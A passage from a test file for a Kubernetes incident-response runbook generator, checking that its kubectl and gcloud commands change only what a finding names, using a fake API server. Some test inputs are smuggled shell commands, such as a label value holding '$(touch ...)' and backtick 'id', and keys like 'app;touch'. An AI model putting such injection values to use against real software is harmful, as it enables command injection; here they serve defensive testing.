      const binary = p.startsWith('/') ? p : `/tmp/${p}`;
      const command = commandOf(buildRunbook(makeInput({ binary })), 'copy_binary');
      if (binary.includes('\\') || !isShellWritable(binary)) {
        expect(command).toBeNull();
        return;
      }
      expect(await argvOf(command!)).toEqual(expectedCp('payments', 'api-7d9f5-x2x4z', 'app', binary));
    });
  });

  it('cluster payloads reach gcloud exactly, or the command is null', async () => {
    const cases = (['name', 'location', 'project'] as const).flatMap((slot) => CANARY_PAYLOADS.map((p) => [slot, p] as const));
    await inBatches(cases, 8, async ([slot, p]) => {
      const input = makeInput({ cluster: { locationType: 'regional', [slot]: p } });
      const command = commandOf(buildRunbook(input), 'get_credentials');
      if (p.startsWith('-') || !isShellWritable(p)) {
        expect(command).toBeNull();
        return;
      }
      const { name, location, project } = input.finding.cluster!;
      expect(await argvOf(command!, 'gcloud')).toEqual(['container', 'clusters', 'get-credentials', name, '--region', location, '--project', project]);
    });
  });
});

/**
 * The argv model above is only as good as its match with kubectl. Where a
 * kubectl binary is installed, run the generated commands against a fake API
 * server and read what kubectl actually asks for: the object, the namespace,
 * the name and the change.
 */
const KUBECTL = '/usr/bin/kubectl';
(existsSync(KUBECTL) ? describe : describe.skip)('real kubectl against a fake API server', () => {
  interface Request {
    method: string;
    path: string[];
    query: URLSearchParams;
    body: string;
  }
  let server: http.Server;
  let dir: string;
  let kubeconfig: string;
  let requests: Request[] = [];
  let ephemeral: string | null = null;

  const resources = (groupVersion: string, list: Array<[name: string, kind: string, namespaced: boolean]>): unknown => ({
    kind: 'APIResourceList',
    groupVersion,
    resources: list.map(([name, kind, namespaced]) => ({ name, singularName: name.includes('/') ? '' : kind.toLowerCase(), namespaced, kind, verbs: ['get', 'patch', 'create', 'delete', 'update'] })),
  });
  const group = (name: string): unknown => ({ name, versions: [{ groupVersion: `${name}/v1`, version: 'v1' }], preferredVersion: { groupVersion: `${name}/v1`, version: 'v1' } });

  beforeAll(async () => {
    server = http.createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        const url = new URL(req.url ?? '/', 'http://x');
        const body = Buffer.concat(chunks).toString('utf8');
        const parts = url.pathname.split('/').slice(1).map(decodeURIComponent);
        requests.push({ method: req.method ?? '', path: parts, query: url.searchParams, body });
        const json = (code: number, value: unknown): void => {
          res.writeHead(code, { 'content-type': 'application/json' });
          res.end(JSON.stringify(value));
        };
        const p = url.pathname;
        if (p === '/api') return json(200, { kind: 'APIVersions', versions: ['v1'], serverAddressByClientCIDRs: [] });
        if (p === '/apis') return json(200, { kind: 'APIGroupList', apiVersion: 'v1', groups: [group('apps'), group('batch'), group('networking.k8s.io')] });
        if (p === '/api/v1') {
          return json(200, resources('v1', [['pods', 'Pod', true], ['pods/ephemeralcontainers', 'Pod', true], ['pods/attach', 'PodAttachOptions', true], ['nodes', 'Node', false], ['namespaces', 'Namespace', false], ['replicationcontrollers', 'ReplicationController', true], ['replicationcontrollers/scale', 'Scale', true]]));
        }
        if (p === '/apis/apps/v1') {
          return json(200, resources('apps/v1', [['deployments', 'Deployment', true], ['deployments/scale', 'Scale', true], ['statefulsets', 'StatefulSet', true], ['statefulsets/scale', 'Scale', true], ['replicasets', 'ReplicaSet', true], ['replicasets/scale', 'Scale', true]]));
        }
        if (p === '/apis/batch/v1') return json(200, resources('batch/v1', [['cronjobs', 'CronJob', true], ['jobs', 'Job', true]]));
        if (p === '/apis/networking.k8s.io/v1') return json(200, resources('networking.k8s.io/v1', [['networkpolicies', 'NetworkPolicy', true]]));
        // Enough OpenAPI v3 for kubectl to leave validation to the server (fieldValidation=Strict).
        if (p === '/openapi/v3') return json(200, { paths: { 'apis/networking.k8s.io/v1': { serverRelativeURL: '/openapi/v3/apis/networking.k8s.io/v1?hash=1' } } });
        if (p === '/openapi/v3/apis/networking.k8s.io/v1') {
          return json(200, {
            openapi: '3.0.0',
            info: { title: 'Kubernetes', version: 'v1' },
            paths: {
              '/apis/networking.k8s.io/v1/namespaces/{namespace}/networkpolicies/{name}': {
                patch: {
                  'x-kubernetes-group-version-kind': { group: 'networking.k8s.io', version: 'v1', kind: 'NetworkPolicy' },
                  parameters: [{ name: 'fieldValidation', in: 'query', schema: { type: 'string' } }],
                },
              },
            },
          });
        }
        // Pod lists answer kubectl's wait loops (delete, debug) at once.
        if (parts.length === 5 && parts[0] === 'api' && parts[4] === 'pods' && req.method === 'GET') {
          if (url.searchParams.get('watch')) {
            res.writeHead(200, { 'content-type': 'application/json' });
            return res.end();
          }
          const items = ephemeral === null ? [] : [{ kind: 'Pod', apiVersion: 'v1', metadata: { name: 'x', namespace: parts[3], resourceVersion: '2' }, spec: { containers: [{ name: 'app', image: 'x' }] }, status: { phase: 'Running', ephemeralContainerStatuses: [{ name: ephemeral, state: { terminated: { exitCode: 0 } } }] } }];
          return json(200, { kind: 'PodList', apiVersion: 'v1', metadata: { resourceVersion: '2' }, items });
        }
        if (parts[0] === 'api' && parts[2] === 'namespaces' && parts[4] === 'pods' && parts.length >= 6) {
          if (parts[6] === 'ephemeralcontainers' && req.method === 'PATCH') ephemeral = (JSON.parse(body) as { spec: { ephemeralContainers: Array<{ name: string }> } }).spec.ephemeralContainers[0]!.name;
          if (req.method === 'DELETE') return json(200, { kind: 'Status', apiVersion: 'v1', status: 'Success' });
          return json(200, { kind: 'Pod', apiVersion: 'v1', metadata: { name: parts[5], namespace: parts[3] }, spec: { containers: [{ name: 'app', image: 'x' }] }, status: { phase: 'Running' } });
        }
        if (parts[0] === 'api' && parts[2] === 'nodes' && parts.length === 4) return json(200, { kind: 'Node', apiVersion: 'v1', metadata: { name: parts[3] }, spec: {} });
        if (parts[0] === 'apis' && parts[3] === 'namespaces' && (parts[1] === 'apps' || parts[1] === 'batch') && parts.length >= 7) {
          const meta = { name: parts[6], namespace: parts[4] };
          if (parts[7] === 'scale') return json(200, { kind: 'Scale', apiVersion: 'autoscaling/v1', metadata: meta, spec: { replicas: 3 }, status: { replicas: 3 } });
          return json(200, { kind: 'Unknown', apiVersion: `${parts[1]}/v1`, metadata: meta, spec: {} });
        }
        if (parts[1] === 'networking.k8s.io' && parts[5] === 'networkpolicies') {
          if (req.method === 'POST') return json(201, JSON.parse(body));
        }
        return json(404, { kind: 'Status', apiVersion: 'v1', status: 'Failure', reason: 'NotFound', code: 404 });
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    dir = await mkdtemp(path.join(tmpdir(), 'runbook-kubectl-'));
    kubeconfig = path.join(dir, 'kubeconfig');
    await writeFile(
      kubeconfig,
      JSON.stringify({
        apiVersion: 'v1',
        kind: 'Config',
        clusters: [{ name: 'fake', cluster: { server: `http://127.0.0.1:${port}` } }],
        users: [{ name: 'u', user: { token: 'not-a-secret' } }],
        contexts: [{ name: 'fake', context: { cluster: 'fake', user: 'u', namespace: 'default-ns' } }],
        'current-context': 'fake',
      }),
    );
  });

  afterAll(async () => {
    await new Promise<void>((resolve) => server.close(() => resolve()));
    await rm(dir, { recursive: true, force: true });
  });

  /** The requests that change something, as METHOD and decoded path. */
  async function changesMadeBy(command: string): Promise<Request[]> {
    requests = [];
    ephemeral = null;
    const result = await runWithStandIns(command, { programs: [], env: { KUBECONFIG: kubeconfig }, timeoutMs: 30_000 });
    expect(result.canaryFiles).toEqual([]);
    expect(result.timedOut).toBe(false);
    return requests.filter((r) => r.method !== 'GET');
  }

  const hostileLabels = Object.fromEntries([
    ['app', 'on'],
    ['yes', '0o17'],
    ['q', `it's "quoted" a: b #c *d &e !!f {g} [h]`],
    ['-lead', '- item'],
    ['nl', 'line1\nEOF\nline3'],
    ['esc', '\x1b[31m$(touch $CANARY_DIR/pwned)`id`\x07'],
    ['__proto__', 'p'],
    ['empty', ''],
  ]);
  const findings: Array<[name: string, facts: Facts]> = [
    ['playbook values', {}],
    ['leading-dash names', { workload: { namespace: '-ns', pod: '-pod', container: '-c=x', node: '-node' }, pod: { owners: [{ kind: 'Deployment', name: '-dep', labels: {} }] } }],
    ['names with :', { workload: { namespace: 'a:b', pod: 'po:d', container: 'c:d', node: 'n:1' } }],
    ['hostile labels, IPv6 C2', { pod: { labels: hostileLabels }, c2: { host: '2001:db8::7', ipVersion: 6 } }],
  ];

  it.each(findings)('%s: every kubectl command changes exactly what the finding names', async (_name, facts) => {
    const input = makeInput(facts);
    const runbook = buildRunbook(input);
    const { namespace: ns, pod, container, node } = input.finding.workload as { namespace: string; pod: string; container: string; node: string };

    const [debugPatch] = await changesMadeBy(commandOf(runbook, 'debug')!);
    expect(debugPatch?.method).toBe('PATCH');
    expect(debugPatch?.path).toEqual(['api', 'v1', 'namespaces', ns, 'pods', pod, 'ephemeralcontainers']);
    const ec = (JSON.parse(debugPatch!.body) as { spec: { ephemeralContainers: Array<Record<string, unknown>> } }).spec.ephemeralContainers[0]!;
    expect({ image: ec.image, targetContainerName: ec.targetContainerName, command: ec.command, stdin: ec.stdin, tty: ec.tty }).toEqual({
      image: DEBUG_IMAGE, targetContainerName: container, command: ['sh'], stdin: true, tty: true,
    });
    expect(ec.securityContext).toEqual({ capabilities: { add: ['SYS_PTRACE'] } });

    const cordon = await changesMadeBy(commandOf(runbook, 'cordon')!);
    expect(cordon.map((r) => [r.method, r.path, JSON.parse(r.body)])).toEqual([['PATCH', ['api', 'v1', 'nodes', node], { spec: { unschedulable: true } }]]);

    const del = await changesMadeBy(commandOf(runbook, 'delete_pod')!);
    expect(del.map((r) => [r.method, r.path])).toEqual([['DELETE', ['api', 'v1', 'namespaces', ns, 'pods', pod]]]);

    const owner = input.pod!.owners.at(-1)!.name;
    const scale = await changesMadeBy(commandOf(runbook, 'scale_to_zero')!);
    expect(scale.map((r) => [r.method, r.path, JSON.parse(r.body)])).toEqual([
      ['PATCH', ['apis', 'apps', 'v1', 'namespaces', ns, 'deployments', owner, 'scale'], { spec: { replicas: 0 } }],
    ]);

    const selector = selectorLabels(input.pod!.labels, 'Deployment');
    const c2Cidr = input.c2.ipVersion === 6 ? '2001:db8::7/128' : '203.0.113.7/32';
    for (const [id, expected] of [
      ['block_c2_egress', c2EgressPolicy({ namespace: ns, podLabels: selector, c2Cidr })],
      ['block_all_egress', denyAllEgressPolicy({ namespace: ns, podLabels: selector })],
    ] as const) {
      const posts = await changesMadeBy(commandOf(runbook, id)!);
      expect(posts.map((r) => [r.method, r.path])).toEqual([['POST', ['apis', 'networking.k8s.io', 'v1', 'namespaces', ns, 'networkpolicies']]]);
      expect(posts[0]!.query.get('fieldValidation')).toBe('Strict');
      const sent = JSON.parse(posts[0]!.body) as NetworkPolicyManifest & { metadata: { annotations?: unknown } };
      delete sent.metadata.annotations; // kubectl's last-applied-configuration
      expect(sent).toEqual(expected.manifest);
      expect(Object.getOwnPropertyDescriptor(sent.spec.podSelector.matchLabels, '__proto__')?.value).toBe(Object.getOwnPropertyDescriptor(selector, '__proto__')?.value);
    }
  });

  it('a CronJob is suspended with exactly the intended merge patch', async () => {
    const runbook = buildRunbook(makeInput({ pod: { owners: [{ kind: 'Job', name: 'cj-1', labels: {} }, { kind: 'CronJob', name: '-cj', labels: {} }] } }));
    const changes = await changesMadeBy(commandOf(runbook, 'scale_to_zero')!);
    expect(changes.map((r) => [r.method, r.path, r.query.get('fieldManager'), JSON.parse(r.body)])).toEqual([
      ['PATCH', ['apis', 'batch', 'v1', 'namespaces', 'payments', 'cronjobs', '-cj'], 'kubectl-patch', { spec: { suspend: true } }],
    ]);
  });
});

describe("policies from the finding's own pod labels when the pod was not read", () => {
  const FROM_FINDING = /^Selects on app=api, tier=backend, from the finding's own kubernetes\.pods\[\]\.labels \(the pod was not read from the cluster\)\. /;
  const LABELS: FindingLabel[] = [
    { name: 'app', value: 'api' },
    { name: 'tier', value: 'backend' },
    { name: 'pod-template-hash', value: '7d9f5' },
  ];

  it.each([
    ['no pod section (offline)', null],
    ['the pod is gone (section from the finding)', { source: 'finding' as const, labels: {}, owners: [] }],
  ])('%s: both policies select with them, minus per-revision labels, and say so', (_name, pod) => {
    const runbook = buildRunbook(makeInput({ pod, podLabels: LABELS }));
    for (const id of ['block_c2_egress', 'block_all_egress'] as const) {
      const step = stepOf(runbook, id);
      expect(step.command).toContain('matchLabels:\n      "app": "api"\n      "tier": "backend"\n');
      expect(step.command).not.toContain('pod-template-hash');
      expect(step.note).toMatch(FROM_FINDING);
    }
  });

  it('a pod read from the cluster wins over the finding, and the note says so', () => {
    const runbook = buildRunbook(makeInput({ podLabels: [{ name: 'app', value: 'other' }] }));
    const step = stepOf(runbook, 'block_c2_egress');
    expect(step.command).toContain('"app": "api"');
    expect(step.command).not.toContain('"other"');
    expect(step.note).toMatch(/^Selects on app=api, tier=backend, from the pod as read from the cluster\. /);
  });

  it('a label named like an internal field is just a label', () => {
    const step = stepOf(buildRunbook(makeInput({ pod: null, podLabels: [{ name: 'reason', value: 'x' }] })), 'block_all_egress');
    expect(step.command).toContain('"reason": "x"');
  });

  it.each([
    ['a key with a shell metacharacter', [{ name: 'app;touch', value: 'x' }]],
    ['a value with a newline', [{ name: 'app', value: 'api\ntouch' }]],
    ['a value of 64 characters', [{ name: 'app', value: 'a'.repeat(64) }]],
    ['a value ending in a dash', [{ name: 'app', value: 'api-' }]],
    ['an upper-case key prefix', [{ name: 'Example.com/app', value: 'api' }]],
    ['an empty key (proto3 JSON omitted the name)', [{ name: '', value: 'api' }]],
    ['an invisible character', [{ name: 'app', value: 'a\u200bpi' }]],
    ['one label with two values', [{ name: 'app', value: 'api' }, { name: 'app', value: 'web' }]],
  ])('%s: the step is null with a note, never a wider or different selector', (_name, podLabels) => {
    const runbook = buildRunbook(makeInput({ pod: null, podLabels }));
    for (const id of ['block_c2_egress', 'block_all_egress'] as const) {
      const step = stepOf(runbook, id);
      expect(step.command).toBeNull();
      expect(step.note).toMatch(/kubernetes\.pods\[\]\.labels/);
    }
  });

  it('only per-revision labels, or none listed: null with the reason', () => {
    const onlyHash = stepOf(buildRunbook(makeInput({ pod: null, podLabels: [{ name: 'pod-template-hash', value: '7d9f5' }] })), 'block_c2_egress');
    expect(onlyHash.command).toBeNull();
    expect(onlyHash.note).toMatch(/no labels besides per-revision ones \(per the finding's own/);
    const none = stepOf(buildRunbook(makeInput({ pod: null, podLabels: null })), 'block_c2_egress');
    expect(none.command).toBeNull();
    expect(none.note).toMatch(/the finding lists none for it/);
  });
});

describe('Kubernetes label syntax', () => {
  it.each(['app', 'app.kubernetes.io/name', 'a', 'A-b_c.d', `${'a'.repeat(253)}/x`, `x/${'b'.repeat(63)}`])('key %s is valid', (key) => {
    expect(isLabelKey(key)).toBe(true);
  });
  it.each(['', '/app', 'app/', '-app', 'app-', 'a/b/c', 'Example.com/app', `${'a'.repeat(254)}/x`, 'b'.repeat(64), 'a b', 'a\nb'])('key %j is not', (key) => {
    expect(isLabelKey(key)).toBe(false);
  });
  it.each(['', 'v1', 'Api_1.2-x'])('value %j is valid', (v) => expect(isLabelValue(v)).toBe(true));
  it.each(['-x', 'x-', 'a/b', 'c'.repeat(64), 'a\u200bb', 'on '])('value %j is not', (v) => expect(isLabelValue(v)).toBe(false));
});
